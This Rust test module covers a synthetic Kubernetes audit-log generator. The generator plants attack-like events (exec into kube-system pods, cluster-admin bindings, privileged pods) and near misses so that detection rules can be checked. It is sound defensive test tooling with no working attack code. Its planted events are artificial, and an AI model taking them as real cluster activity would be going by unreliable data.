            let (out, stats) = generate(4_000_000, seed, 0);
            assert_eq!(counted(&stats), [(0, 0); 3]);
            let rows = rows(&out);
            assert_eq!(evaluate(&rows, now()), [(0, 0); 3], "seed {seed}");
            // Without the DataSource condition some background events of
            // other platforms match (privileged add-on pods on EKS); they
            // are counted as such.
            assert_eq!(evaluate_anywhere(&rows, now()), counted_anywhere(&stats));
        }
    }

    #[test]
    fn near_misses_of_every_rule_are_present() {
        // The background is only a fair test if it contains rows that fail
        // just one clause of each rule.
        let (out, _) = generate(20_000_000, 9, 0);
        let rows = rows(&out);
        let count = |pred: &dyn Fn(&Value) -> bool| rows.iter().filter(|r| pred(r)).count();
        let raw = |r: &Value, path: &[&str]| at(&r["RawEventData"], path).clone();
        let kube_system_exec = |r: &Value| {
            equals(&raw(r, &["ObjectRef", "namespace"]), "kube-system")
                && equals(&raw(r, &["ObjectRef", "subresource"]), "exec")
        };
        // Exec into AKS's tunnel pods, and exec by GET (kubectl 1.30+).
        assert!(
            count(&|r| kube_system_exec(r)
                && raw(r, &["ResponseStatus", "code"]) == 101
                && equals(&r["OperationName"], "create")
                && equals(&r["DataSource"], AKS))
                > 0
        );
        assert!(count(&|r| kube_system_exec(r) && equals(&r["OperationName"], "get")) > 0);
        // Cluster-admin bindings made by AKS itself.
        assert!(
            count(&|r| equals(
                &raw(r, &["RequestObject", "roleRef", "name"]),
                "cluster-admin"
            ) && equals(&raw(r, &["User", "username"]), "acsService"))
                > 0
        );
        // Privileged pods created outside AKS.
        assert!(
            count(&|r| equals(&raw(r, &["RequestObject", "kind"]), "Pod")
                && !equals(&r["DataSource"], AKS)
                && r.to_string().contains("\"privileged\":true"))
                > 0
        );
    }

    #[test]
    fn planted_exec_pods_avoid_the_exempt_prefixes() {
        assert!(starts_with_exempt_prefix("Tunnelfront-Upper"));
        assert!(starts_with_exempt_prefix("konnectivity-agent-6f7d9-x2kqp"));
        assert!(!starts_with_exempt_prefix("coredns-abc"));
        assert!(APPS
            .iter()
            .any(|a| a.namespace == "kube-system" && !starts_with_exempt_prefix(a.name)));
    }

    #[test]
    fn datetimes_format_like_chrono() {
        let mut rng = SplitMix64(11);
        for _ in 0..2_000 {
            let micros = rng.range(-2_000_000_000_000_000, 4_000_000_000_000_000);
            let expected = DateTime::from_timestamp_micros(micros).unwrap();
            let mut text = String::new();
            push_datetime(&mut text, micros, 6);
            assert_eq!(text, expected.format("%Y-%m-%dT%H:%M:%S%.6fZ").to_string());
            text.clear();
            push_datetime(&mut text, micros, 3);
            assert_eq!(text, expected.format("%Y-%m-%dT%H:%M:%S%.3fZ").to_string());
        }
    }

    #[test]
    fn json_strings_are_escaped() {
        for s in [
            "plain",
            "quote \" and \\ backslash",
            "tab\tnew\nline\r",
            "\u{1}\u{1f}",
            "é ☃ 😀",
        ] {
            let mut text = String::new();
            push_json_string(&mut text, s);
            assert_eq!(serde_json::from_str::<String>(&text).unwrap(), s);
        }
    }

    #[test]
    fn commands_are_percent_encoded_without_plus() {
        let mut text = String::new();
        push_percent_encoded(&mut text, "sh -c 'a+b' && /x?y=1");
        assert_eq!(text, "sh%20-c%20%27a%2Bb%27%20%26%26%20%2Fx%3Fy%3D1");
    }

    #[test]
    fn static_tables_are_consistent() {
        for actor in ACTORS {
            for name in actor.reads {
                resource_index(name);
            }
            assert_eq!(
                actor.role == Role::Human,
                !actor.clients.is_empty(),
                "{}",
                actor.username
            );
            if !actor.extra.is_empty() {
                assert!(serde_json::from_str::<Value>(actor.extra)
                    .unwrap()
                    .is_object());
            }
        }
        for context in UNPRIVILEGED_SECURITY_CONTEXTS
            .iter()
            .filter(|c| !c.is_empty())
        {
            let value: Value = serde_json::from_str(context).unwrap();
            assert!(!equals(&value["privileged"], "true"));
        }
        for context in PRIVILEGED_SECURITY_CONTEXTS {
            let value: Value = serde_json::from_str(context).unwrap();
            assert!(equals(&value["privileged"], "true"));
        }
    }

    #[test]
    fn events_gives_exactly_that_many_lines() {
        for format in [SampleFormat::CloudAudit, SampleFormat::Native] {
            let (out, stats) = generate_events(1_234, Source::Mixed, format, 1_000);
            assert_eq!(stats.rows, 1_234);
            assert_eq!(out.iter().filter(|&&b| b == b'\n').count(), 1_234);
            assert_eq!(stats.bytes, out.len() as u64);
        }
    }

    #[test]
    fn both_formats_describe_the_same_events_and_plants() {
        for source in Source::ALL {
            let (cloud, cloud_stats) =
                generate_events(3_000, source, SampleFormat::CloudAudit, 30_000);
            let (native, native_stats) =
                generate_events(3_000, source, SampleFormat::Native, 30_000);
            assert_eq!(
                cloud_stats.matches_per_rule,
                native_stats.matches_per_rule,
                "{}",
                source.name()
            );
            let cloud_rows = rows(&cloud);
            assert_eq!(evaluate(&cloud_rows, now()), counted(&cloud_stats));
            assert_eq!(
                evaluate_anywhere(&cloud_rows, now()),
                counted_anywhere(&cloud_stats)
            );
            // Same audit IDs, line by line.
            for (row, line) in cloud_rows.iter().zip(rows(&native)) {
                let id = row["RawEventData"]["AuditId"]
                    .as_str()
                    .or(row["RawEventData"]["correlationId"].as_str())
                    .unwrap();
                assert!(
                    line.to_string().contains(id),
                    "{} {row} {line}",
                    source.name()
                );
            }
            let (again, _) = generate_events(3_000, source, SampleFormat::Native, 30_000);
            assert_eq!(native, again, "deterministic");
        }
    }

    #[test]
    fn native_lines_have_each_platforms_export_shape() {
        let first_key = |source: Source| {
            let (out, _) = generate_events(200, source, SampleFormat::Native, 0);
            let rows = rows(&out);
            let keys: std::collections::BTreeSet<String> = rows
                .iter()
                .map(|r| {
                    let object = r.as_object().unwrap();
                    [
                        "kind",
                        "category",
                        "messageType",
                        "protoPayload",
                        "operationName",
                    ]
                    .into_iter()
                    .find(|k| object.contains_key(*k))
                    .unwrap_or("?")
                    .to_string()
                })
                .collect();
            keys.into_iter().collect::<Vec<_>>()
        };
        assert_eq!(first_key(Source::Aks), ["category"]);
        assert_eq!(first_key(Source::Eks), ["messageType"]);
        assert_eq!(first_key(Source::Gke), ["protoPayload"]);
        assert_eq!(first_key(Source::OnPrem), ["kind"]);
        assert_eq!(first_key(Source::Arm), ["category"]);
        let (out, _) = generate_events(500, Source::Aks, SampleFormat::Native, 0);
        for row in rows(&out) {
            let log = row["properties"]["log"].as_str().unwrap();
            let event: Value = serde_json::from_str(log).unwrap();
            assert_eq!(event["kind"], "Event");
        }
    }

    #[test]
    fn sources_keep_to_their_platforms() {
        for (source, data_source) in [
            (Source::Aks, "Azure Kubernetes Service"),
            (Source::Eks, "Amazon Elastic Kubernetes Service"),
            (Source::Gke, "Google Kubernetes Engine"),
            (Source::OnPrem, "Kubernetes Audit"),
            (Source::Arm, "Azure Resource Manager"),
        ] {
            let (out, _) = generate_events(2_000, source, SampleFormat::CloudAudit, 20_000);
            for row in rows(&out) {
                assert_eq!(row["DataSource"], data_source, "{}", source.name());
            }
        }
        assert_eq!(Source::from_name("onprem"), Some(Source::OnPrem));
        assert_eq!(
            SampleFormat::from_name("native"),
            Some(SampleFormat::Native)
        );
    }
}
